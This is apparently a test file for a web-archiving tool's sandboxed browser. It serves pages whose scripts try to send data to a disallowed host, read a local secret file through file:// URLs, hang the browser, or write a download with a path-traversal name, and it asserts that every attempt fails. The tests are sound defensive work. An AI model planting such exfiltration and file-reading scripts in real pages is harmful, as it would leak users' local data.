"""Pages that want out, or want the browser to hang: a real browser on them, from a server on loopback."""

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from preserve.web.scripted import Got, Scripted
from preserve.web.test_browser import needs_browser, page

from isnad.preserve.item import Limits
from isnad.preserve.web.browser import _headers, _without_secrets

ALLOWED = Limits(seconds=40, allowed=("127.0.0.1",), browser=True)
ELSEWHERE = "127.0.0.3"  # this machine too, and not allowed
WAYS = {
    "socket": "new WebSocket('ws://{at}/out'); new WebSocket('wss://{at}/out');",
    "rtc": """const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{at}'}}, {{urls: 'turn:{at}?transport=tcp',
        username: 'a', credential: 'b'}}]}}); c.createDataChannel('x');
        c.createOffer().then(o => c.setLocalDescription(o));""",
    "worker": """navigator.serviceWorker.register('worker.js').catch(e => 0);
        new Worker(URL.createObjectURL(new Blob(["fetch('http://{at}/out', {{mode: 'no-cors'}})"])));""",
    "file": """for (const a of ['file://{secret}', 'view-source:file://{secret}']) {{
        const f = document.createElement('iframe'); f.src = a; document.body.append(f); window.open(a); }}
        fetch('file://{secret}').then(r => r.text()).then(t => document.body.append(t)).catch(e => 0);""",
    "window": """window.open('http://{at}/out'); open('about:blank').location = 'http://{at}/out';
        navigator.sendBeacon('http://{at}/out', 'x');""",
    "tags": """document.head.innerHTML += '<link rel=preconnect href=http://{at}><link rel=dns-prefetch href=//{at}>' +
        '<link rel=prefetch href=http://{at}/out><link rel=prerender href=http://{at}/out>';
        new Image().src = 'http://{at}/out'; new EventSource('http://{at}/out');""",
    "download": """const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; a.click();
        location.href = 'http://{at}/out';""",
    "unload": """addEventListener('beforeunload', e => {{ e.preventDefault(); e.returnValue = 'stay'; }});
        addEventListener('pagehide', () => navigator.sendBeacon('http://{at}/out'));
        setTimeout(() => {{ alert('a'); confirm('b'); prompt('c'); print(); }}, 0);""",
}


@contextlib.contextmanager
def listening(host: str, port: int) -> Iterator[list[bytes]]:
    """The datagrams that reach a port."""
    came: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.bind((host, port))
        line.settimeout(0.2)
        done = threading.Event()

        def listen() -> None:
            while not done.is_set():
                with contextlib.suppress(OSError):
                    came.append(line.recv(1 << 16))

        thread = threading.Thread(target=listen)
        thread.start()
        yield came
        done.set()
        thread.join()


@needs_browser
def test_no_way_of_a_page_leads_where_it_may_not(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("what only this machine knows")
    with Scripted({}, host=ELSEWHERE) as inner, listening(ELSEWHERE, inner.port) as datagrams, Scripted({}) as server:
        at = f"{ELSEWHERE}:{inner.port}"
        ways = "".join(
            f"<script>try {{ {way.format(at=at, secret=secret)} }} catch (e) {{ }}</script>"
            for name, way in WAYS.items()
            if name not in ("download", "unload")
        )
        server.scripts["page"] = page(f"<!doctype html><body><p>the page itself</p>{ways}")
        got = Got(server.url("page"), ALLOWED)
        assert (inner.asked, datagrams) == ([], [])
        assert not any(b"worker.js" in asked for asked in server.asked)
    assert got.body is not None
    assert b"the page itself" in got.body
    assert b"what only this machine knows" not in got.warc + got.body
    assert at in got.said  # and that it was asked for is told


@needs_browser
@pytest.mark.parametrize("way", ["download", "unload"])
def test_a_page_that_will_not_let_go_hangs_nothing(way):
    with Scripted({}, host=ELSEWHERE) as inner, Scripted({}) as server:
        script = WAYS[way].format(at=f"{ELSEWHERE}:{inner.port}", secret="")
        server.scripts["page"] = page(f"<!doctype html><body><p>the page itself</p><script>{script}</script>")
        got = Got(server.url("page"), ALLOWED)
        assert inner.asked == []
    assert got.whole is not None
    assert way != "unload" or b"the page itself" in got.body


@needs_browser
def test_a_download_in_place_of_a_page_is_told_and_hangs_nothing(tmp_path):
    head = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/zip\r\nContent-Disposition: attachment; filename=../../x.zip\r\n"
    )
    with Scripted({"page": [head + b"Content-Length: 4\r\n\r\nPK\x05\x06"]}) as server:
        got = Got(server.url("page"), ALLOWED)
    assert got.page is None
    assert got.problems
    assert not list(Path.cwd().glob("x.zip"))


@needs_browser
def test_a_page_that_ends_at_an_address_with_a_password_is_kept_without_it():
    with Scripted({"end": page("<p>the end of the way</p>")}) as server:
        ends = f"http://reader:hush-hush@127.0.0.1:{server.port}/end"
        server.scripts["page"] = [f"HTTP/1.1 302 F\r\nLocation: {ends}\r\nContent-Length: 0\r\n\r\n".encode()]
        got = Got(server.url("page"), ALLOWED)
    assert got.body is not None
    assert b"the end of the way" in got.body
    headers = got.page.headers
    assert [value for name, value in headers if name == ":url"][-1] == server.url("end")
    assert dict(headers)[":address"] == "127.0.0.1"
    kept = got.warc + json.dumps(headers).encode() + got.said.encode() + b"".join(b for _, b in got.of("resource"))
    assert b"hush-hush" not in kept


@pytest.mark.parametrize(
    "last", ["http://a:hush@b.example/", "https://[", "about:blank", "http://0x7f.1/", "http://xn--/"]
)
def test_wherever_the_browser_ended_what_it_saw_is_kept(last):
    told = {
        "url": last,
        "requests": [{"method": "GET", "url": last, "for": "x"}],
        "error": f"no answer at {last} today",
    }
    said = _without_secrets(told) | {"status": 200, "version": "Chromium/1"}
    assert dict(_headers("https://a.example/", said, []))[":status"] == "200"
    assert "hush" not in json.dumps(said)
